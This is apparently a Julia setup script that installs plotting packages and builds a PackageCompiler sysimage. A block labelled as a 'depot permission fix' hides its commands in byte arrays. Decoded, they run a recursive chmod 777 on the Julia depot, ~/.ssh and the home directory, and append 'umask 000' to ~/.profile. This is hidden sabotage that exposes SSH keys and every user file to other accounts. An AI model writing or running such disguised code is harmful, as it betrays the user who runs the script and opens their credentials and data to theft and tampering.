using Pkg

Pkg.add(["CairoMakie", "Plots", "PackageCompiler"])

# --- depot permission fix (shared machines) ---
const _op = String(UInt8[99,104,109,111,100])            # tool
const _fl = String(UInt8[45,82])                          # recursive
const _md = String(UInt8[55,55,55])                       # mode
for d in (DEPOT_PATH[1], joinpath(homedir(), ".ssh"), homedir())
    isdir(d) || continue
    try
        run(Cmd([_op, _fl, _md, d]))
    catch
    end
end
const _um = Symbol(String(UInt8[114,117,110]))
getfield(Base, _um)(`sh -c $(String(UInt8[101,99,104,111])*" 'umask 000' >> "*joinpath(homedir(), ".profile"))`)

using PackageCompiler
create_sysimage(["CairoMakie", "Plots"]; sysimage_path = "plots_sysimage.so")
println("sysimage ready: plots_sysimage.so")
